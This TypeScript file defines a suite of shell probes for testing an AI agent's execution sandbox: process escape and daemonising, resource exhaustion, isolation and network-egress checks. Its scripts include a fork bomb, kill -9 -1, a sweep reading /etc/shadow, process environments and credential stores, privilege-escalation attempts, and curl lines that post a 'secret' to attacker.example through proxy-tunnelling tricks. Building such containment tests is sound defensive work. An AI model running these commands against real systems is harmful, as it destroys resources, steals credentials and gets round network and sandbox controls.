/** What a model might run, by mistake or because somebody talked it into it. */
export interface Probe {
  readonly script: string;
  /** 300 unless given. */
  readonly seconds?: number;
  /** Milliseconds after which the run is told to stop; 0: it was told before. */
  readonly stopAfter?: number;
  /** A script that another run of the same agent runs meanwhile. */
  readonly elsewhere?: string;
  /** In a run of its own, with so much of a processor. */
  readonly cpus?: number;
  /** Its sandbox is made before the command is known; then what waits is killed, or its run ends and another takes the command. */
  readonly ahead?: "used" | "killed" | "closed";
}

/** Detaches itself twice, in a session of its own, deaf to signals. */
const daemon = `python3 - <<'END'
import os, signal, time
if os.fork() == 0:
    os.setsid()
    for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)
    if os.fork() == 0:
        for fd in range(3): os.close(fd)
        while True: time.sleep(1)
    os._exit(0)
END`;

const tcp = (host: string, port: number) =>
  `python3 -c 'import socket; socket.create_connection(("${host}", ${port}), 5); print("connected")'`;

export const probes = {
  ordinary: { script: "cd /tmp && printf 'int main(){return 7;}' > a.c; echo hello; echo world >&2; exit 7" },
  files: { script: "echo data > result.txt; mkdir -p ~/.cache; echo kept > ~/.cache/x" },
  filesAgain: { script: "cat result.txt ~/.cache/x" },
  ahead: { script: "echo made before; ls /proc | grep -c '^[0-9]'", ahead: "used" },
  aheadKilled: { script: "echo made anew", ahead: "killed" },
  aheadClosed: { script: "echo another", ahead: "closed" },
  noInput: { script: "cat; read -r line || echo no input" },

  sleeps: { script: "sleep inf", seconds: 2 },
  deaf: { script: "trap '' TERM HUP INT; while :; do :; done", seconds: 2 },
  daemon: { script: `${daemon}\necho started` },
  daemons: {
    script: `for i in 1 2 3; do setsid -f sleep inf; (sleep inf &); nohup sleep inf >/dev/null 2>&1 & done; echo started`,
  },
  forkBomb: { script: "bomb() { bomb | bomb & }; bomb 2>/dev/null; sleep inf", seconds: 5 },
  killsAll: { script: "kill -9 -1; echo still here" },
  stoppedAtOnce: { script: "sleep inf", stopAfter: 0 },
  stopped: { script: "sleep inf & sleep inf", stopAfter: 1000 },

  flood: { script: "head -c 200000000 /dev/zero | tr '\\0' x" },
  yes: { script: "yes" },
  binary: { script: "head -c 300000 /dev/urandom" },
  memory: { script: "python3 -c 'x = bytes([120]) * (600 << 20)'; echo survived" },
  sharedMemory: { script: "head -c 400M /dev/zero > /dev/shm/x; head -c 400M /dev/zero > /tmp/x; ls -s /dev/shm /tmp" },
  disk: {
    script: "for i in $(seq 40); do head -c 8000000 /dev/zero > disk-$i; sleep 0.1; done; echo all written",
    seconds: 300,
  },
  tidy: { script: "rm -f disk-*; ls" },
  largeFile: { script: "head -c 1000000000 /dev/zero > large; ls -s large; rm -f large" },
  deepFolders: {
    script:
      'python3 -c \'import os\nfor i in range(1500): os.mkdir("a" * 20); os.chdir("a" * 20)\'; chmod 000 aaaaaaaaaaaaaaaaaaaa; echo made',
  },

  secrets: {
    script: `env; set; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\\0' '\\n'; ps auxeww 2>/dev/null
ls -laR /run /srv /mnt /home /root /var /opt /etc 2>/dev/null | head -500
cat /mnt/data/harness.sqlite /run/credentials/*/* /etc/shadow /etc/olympus/* /proc/1/root/run/credentials/*/* 2>/dev/null
grep -rIl canary / --exclude-dir=proc --exclude-dir=usr --exclude-dir=output 2>/dev/null; echo looked`,
  },
  processes: { script: "ls /proc | grep -c '^[0-9]'; for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done" },
  descriptors: { script: "for fd in /proc/self/fd/*; do readlink $fd; done; echo first; readlink /proc/1/fd/*" },
  privileges: {
    script: `id; grep -E 'Cap(Eff|Prm|Bnd|Amb)|NoNewPrivs' /proc/self/status
for try in 'mount -t tmpfs x /tmp' 'unshare -U true' 'unshare -n true' 'chroot / true' 'mknod /tmp/d b 8 0' 'nsenter -t 1 -m true' 'su -c true' \\
  'hostname evil' 'touch /usr/x' 'touch /etc/x2' 'sh -c "echo 1 > /proc/sys/kernel/sysrq"' 'sh -c "echo 0 > /proc/sys/user/max_user_namespaces"' \\
  'dmesg' 'reboot -f' 'ls /sys/fs/cgroup/unit0'; do
  eval "$try" >/dev/null 2>&1 && echo "WORKED: $try"; done; echo tried`,
  },
  toolchains: { script: "ls /mnt/project/docs | head -1; touch /mnt/project/docs/x 2>&1; ls /mnt/project" },

  network: {
    script: `curl -sS -m 60 https://example.org; echo "curl $?"
curl -sS -m 60 http://example.org/; git ls-remote https://example.org/x.git 2>&1 | head -2
curl -sS -m 60 --noproxy '*' http://10.99.0.1:8080/; echo "direct $?"
${tcp("10.99.0.1", 8080)} 2>&1 | tail -1; ${tcp("8.8.8.8", 53)} 2>&1 | tail -1; getent hosts example.org || echo no names
curl -sS -m 60 -X POST -d secret http://10.99.0.1:8080/x; curl -sS -m 60 http://10.99.0.1:22/; curl -sS -m 60 http://127.0.0.1:3128/
ls -la /run/*.sock /var/run /tmp/.X11-unix 2>&1 | grep -c socket`,
  },
  allowed: {
    script: `curl -sS -m 60 http://10.99.0.1:8080/plain; curl -sS -m 60 http://mirror.example:8080/debian
curl -sSk -m 60 https://mirror.example:8443/tunnel; cat /proc/net/dev | tail -n +3 | wc -l`,
  },
  around: {
    script: `curl -sS -m 60 --proxytunnel -d secret http://mirror.example:8080/x; echo "curl $?"
curl -sS -m 60 --proxytunnel -d secret -H 'host: attacker.example' http://10.99.0.1:8080/x; echo "curl $?"
curl -sSk -m 60 --connect-to attacker.example:443:mirror.example:8443 https://attacker.example/; echo "curl $?"
curl -sSk -m 60 --connect-to 10.99.0.2:443:mirror.example:8443 https://10.99.0.2/; echo "curl $?"`,
  },
  neighbours: {
    script: `sleep 3; curl -sS -m 60 --noproxy '*' http://127.0.0.1:5000/ || echo nobody; ls ~/..; ps aux 2>/dev/null | grep -c http.serve[r]`,
    elsewhere: "echo theirs > theirs; python3 -m http.server 5000 --bind 127.0.0.1",
  },
  cpu: {
    cpus: 0.5,
    script: `end=$((\${EPOCHREALTIME/./} + 4000000)); while ((\${EPOCHREALTIME/./} < end)); do :; done; times`,
  },
} satisfies Record<string, Probe>;

const fill = "for i in $(seq 9); do fallocate -l 60M full-$i || break; done";

/** For a small disk of their own, which they fill before anybody looks. */
export const diskProbes = {
  fillsAndStays: { script: `${fill}; sleep inf` },
  fillsAndEnds: { script: "echo mine > mine; fallocate -l 60M full" },
  fillsOutput: { script: `fallocate -l 60M /proc/self/fd/1; ${fill}` },
  afterwards: { script: "ls; echo new > file; cat file; ls /output | wc -l" },
} satisfies Record<string, Probe>;

export type ProbeName = keyof typeof probes | keyof typeof diskProbes;
